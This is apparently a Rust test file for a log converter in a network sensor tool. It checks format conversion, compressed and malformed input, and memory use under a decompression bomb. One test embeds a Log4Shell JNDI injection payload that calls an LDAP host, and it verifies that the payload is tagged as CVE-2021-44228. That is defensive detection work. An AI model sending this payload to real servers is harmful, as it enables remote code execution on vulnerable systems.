use std::fs::{self, File};
use std::io::{Read as _, Write as _};

use crate::session::record::tests::sample;
use spip_record::Tail;
use spip_record::log::Compression;

use super::*;

/// A directory that goes with the test.
struct Directory(PathBuf);

impl Directory {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("spip-convert-{}-{name}", std::process::id()));
        let _ = fs::remove_dir_all(&path);
        fs::create_dir(&path).expect("a directory of our own");
        Self(path)
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.join(name);
        fs::write(&path, bytes).expect("our own directory");
        path
    }

    fn convert(&self, to: Target, files: &[PathBuf]) -> (Outcome, Vec<u8>) {
        let output = self.0.join(format!("{to:?}-{}", fs::read_dir(&self.0).expect("ours").count()));
        let request = Request {
            to,
            output: Some(output.clone()),
            max_line_bytes: 1 << 20,
            enrich: Enrich::default(),
            files: files.to_vec(),
        };
        let outcome = run(&request).expect("the output can be written");
        (outcome, fs::read(output).expect("it was written"))
    }
}

impl Drop for Directory {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// The log of all samples in a format, numbered from 1.
fn log(format: Format) -> Vec<u8> {
    // The same sessions in every format.
    static SAMPLES: std::sync::LazyLock<Vec<[Vec<u8>; 3]>> = std::sync::LazyLock::new(|| {
        let samples = sample::samples();
        let all = [Format::Flat, Format::Ecs, Format::Eve];
        let lines = samples.iter().enumerate().map(|(index, sample)| {
            all.map(|format| {
                let mut line = Vec::new();
                sample::sensor(format).write(&sample.session, usize::MAX, &mut line);
                line.extend_from_slice(format.tail().write(&mut [0; Tail::BYTES], index as u64 + 1));
                line
            })
        });
        lines.collect()
    });
    SAMPLES.iter().flat_map(|lines| lines[format as usize].clone()).collect()
}

fn records(log: &[u8]) -> u64 {
    log.iter().filter(|byte| **byte == b'\n').count() as u64
}

#[test]
fn a_converted_log_is_the_log_that_the_other_format_would_have_written() {
    let directory = Directory::new("equal");
    let flat = directory.file("flat.json", &log(Format::Flat));
    for (to, format) in [(Target::Ecs, Format::Ecs), (Target::Eve, Format::Eve)] {
        let (outcome, converted) = directory.convert(to, std::slice::from_ref(&flat));
        assert!(outcome.is_complete() && outcome.records == records(&log(Format::Flat)));
        assert!(converted == log(format), "{to:?}");
    }
}

#[test]
fn every_connection_has_its_line_in_zeeks_form() {
    let directory = Directory::new("zeek");
    let flat = directory.file("flat.json", &log(Format::Flat));
    let (outcome, converted) = directory.convert(Target::Zeek, &[flat]);
    assert_eq!(outcome.records, records(&converted));
    for line in converted.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
        let conn: serde_json::Value = serde_json::from_slice(line).expect("JSON");
        for key in ["ts", "duration", "orig_bytes", "resp_bytes", "id.orig_p", "id.resp_p", "missed_bytes"] {
            assert!(conn[key].is_number(), "{key} in {conn}");
        }
        for key in ["uid", "id.orig_h", "id.resp_h", "proto", "conn_state", "community_id"] {
            assert!(conn[key].is_string(), "{key} in {conn}");
        }
    }
}

#[test]
fn compressed_files_are_read_and_written_by_their_names() {
    let directory = Directory::new("compressed");
    let flat = log(Format::Flat);
    let (first, second) = flat.split_at(flat.iter().position(|byte| *byte == b'\n').expect("a line") + 1);
    let mut gzip = Vec::new();
    // Two members, as when files are put together.
    for part in [first, second] {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(part).expect("memory");
        gzip.extend(encoder.finish().expect("memory"));
    }
    let files = [
        directory.file("a.gz", &gzip),
        directory.file("b.zst", &zstd::encode_all(&flat[..], 1).expect("memory")),
        directory.file("c", &flat),
    ];
    let expected = log(Format::Eve).repeat(3);
    let (outcome, converted) = directory.convert(Target::Eve, &files);
    assert_eq!(outcome.records, 3 * records(&flat));
    assert!(converted == expected);
    for name in ["out.gz", "out.zst"] {
        let output = directory.0.join(name);
        let request = Request {
            to: Target::Eve,
            output: Some(output.clone()),
            max_line_bytes: 1 << 20,
            enrich: Enrich::default(),
            files: files.to_vec(),
        };
        assert!(run(&request).expect("written").is_complete());
        let mut read = Vec::new();
        let mut file = File::open(&output).expect("it is there");
        match Compression::of(&output).expect("a known one") {
            Compression::Gzip => flate2::read::GzDecoder::new(file).read_to_end(&mut read).map(drop),
            _ => {
                let mut bytes = Vec::new();
                file.read_to_end(&mut bytes).expect("readable");
                zstd::stream::copy_decode(&bytes[..], &mut read)
            }
        }
        .expect("whole");
        assert!(read == expected, "{name}");
        // It exists now, and is not written over.
        assert!(matches!(run(&request), Err(Error::Create { .. })));
    }
}

#[test]
fn a_name_that_promises_another_compression_is_refused() {
    let directory = Directory::new("foreign");
    let flat = directory.file("flat.json", &log(Format::Flat));
    for name in ["out.json.bz2", "out.XZ"] {
        let output = directory.0.join(name);
        let request = Request {
            to: Target::Eve,
            enrich: Enrich::default(),
            output: Some(output.clone()),
            max_line_bytes: 1 << 20,
            files: vec![flat.clone()],
        };
        let refused = run(&request).expect_err("nobody could read it").to_string();
        assert!(refused.contains(".gz and .zst"), "{refused}");
        assert!(!output.exists());
    }
    let (outcome, converted) = directory.convert(Target::Eve, &[directory.file("log.bz2", b"BZh9")]);
    assert_eq!((outcome.bad_files, outcome.bad_lines, converted.len()), (1, 0, 0));
}

#[test]
fn a_line_of_another_format_is_named_as_such() {
    for (format, name) in [(Format::Ecs, "ecs"), (Format::Eve, "eve")] {
        for line in log(format).split_inclusive(|byte| *byte == b'\n') {
            let reason = Target::Zeek.line(line, &mut Vec::new()).expect_err("no flat record");
            assert_eq!(reason, format!("is in the format {name}, and only flat can be converted"));
        }
    }
}

#[test]
fn bad_lines_are_left_out_and_counted() {
    let directory = Directory::new("bad");
    let flat = log(Format::Flat);
    let long = [b"{\"payload\":\"".to_vec(), vec![b'x'; 2 << 20], b"\"}\n".to_vec()].concat();
    let message = b"{\"timestamp\":1,\"level\":\"info\",\"message\":\"ready\",\"target\":\"a\",\"record_type\":\"log\",\"seq\":1}\n";
    let scan = b"{\"record_type\":\"of the future\"}\n";
    let text =
        [b"no json\n\xff\xfe\n", &flat[..], b"\n  \n", &long[..], message, scan, &flat[..flat.len() / 2]].concat();
    let (outcome, converted) =
        directory.convert(Target::Ecs, &[directory.file("log", &text), directory.0.join("missing")]);
    let whole = records(&flat) + records(&flat[..flat.len() / 2]);
    // Two that are no text, the long one, the one of another type, and half a line at the end.
    let expected = Outcome { records: whole, messages: 1, bad_lines: 5, bad_files: 1, cut: false };
    assert_eq!(outcome, expected);
    assert_eq!(records(&converted), whole);
    assert!(!outcome.is_complete());
}

#[test]
fn a_torn_compressed_file_gives_what_is_whole_in_it() {
    let directory = Directory::new("torn");
    let flat = log(Format::Flat);
    let whole = zstd::encode_all(&flat.repeat(20)[..], 1).expect("memory");
    let torn = directory.file("torn.zst", &whole[..whole.len() - 10]);
    let garbage = directory.file("garbage.gz", b"\x1f\x8bno gzip");
    let (outcome, converted) = directory.convert(Target::Eve, &[torn, garbage]);
    assert!(outcome.records > 0 && outcome.records == records(&converted));
    assert_eq!(outcome.bad_files, 2);
}

#[test]
fn a_flood_in_a_small_file_is_not_held() {
    let directory = Directory::new("bomb");
    // A gigabyte without a line end, in some ten kilobytes.
    let mut encoder = zstd::stream::write::Encoder::new(Vec::new(), 1).expect("memory");
    for _ in 0..256 {
        encoder.write_all(&[b'['; 4 << 20]).expect("memory");
    }
    let bomb = encoder.finish().expect("memory");
    assert!(bomb.len() < 1 << 20);
    let before = peak_kb();
    let (outcome, _) = directory.convert(Target::Eve, &[directory.file("bomb.zst", &bomb)]);
    assert_eq!((outcome.bad_lines, outcome.records), (1, 0));
    // Other tests run beside this one; a line that was held would be a gigabyte.
    let more = peak_kb().saturating_sub(before);
    assert!(more < 400_000, "{more} kB more than before");
}

fn peak_kb() -> u64 {
    let status = fs::read_to_string("/proc/self/status").expect("Linux");
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a process with memory");
    line.trim().trim_end_matches(" kB").parse().expect("a number of kB")
}

#[test]
fn what_a_record_means_is_added_in_every_format_and_exported() {
    let directory = Directory::new("enrich");
    let payload = b"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1\r\nHost: a\r\n\r\n";
    let session = sample::of_payload(payload);
    let mut line = Vec::new();
    sample::sensor(Format::Flat).write(&session, usize::MAX, &mut line);
    line.extend_from_slice(Format::Flat.tail().write(&mut [0; Tail::BYTES], 1));
    let log = directory.file("log", &line);
    let enrich = Enrich { enrich: true, ..Enrich::default() };
    let convert = |to, name: &str, files: &[PathBuf]| {
        let output = directory.0.join(name);
        let request = Request {
            to,
            output: Some(output.clone()),
            enrich: enrich.clone(),
            max_line_bytes: 1 << 20,
            files: files.to_vec(),
        };
        assert!(run(&request).expect("the output can be written").is_complete());
        (output.clone(), fs::read_to_string(output).expect("it was written"))
    };
    let (flat, text) = convert(Target::Flat, "flat", std::slice::from_ref(&log));
    let record: serde_json::Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(record["enrichment"]["tags"][0]["cve"][0], "CVE-2021-44228");
    assert_eq!(record["enrichment"]["indicators"][0]["value"], "ldap://198.51.100.9:1389/a");
    // Added again, nothing is there twice.
    assert_eq!(convert(Target::Flat, "again", &[flat]).1, text);
    let (_, text) = convert(Target::Ecs, "ecs", std::slice::from_ref(&log));
    let record: serde_json::Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(record["vulnerability"]["id"], "CVE-2021-44228");
    let (_, text) = convert(Target::Eve, "eve", std::slice::from_ref(&log));
    let events: Vec<serde_json::Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(events[0]["event_type"], "alert");
    assert_eq!(events.last().expect("a flow")["flow"]["alerted"], true);
    assert_eq!(convert(Target::Urls, "urls", std::slice::from_ref(&log)).1, "ldap://198.51.100.9:1389/a\n");
    let bundle: serde_json::Value = serde_json::from_str(&convert(Target::Stix, "stix", &[log]).1).expect("JSON");
    assert_eq!(bundle["type"], "bundle");
    assert_eq!(bundle["objects"].as_array().expect("objects").len(), 3);
}
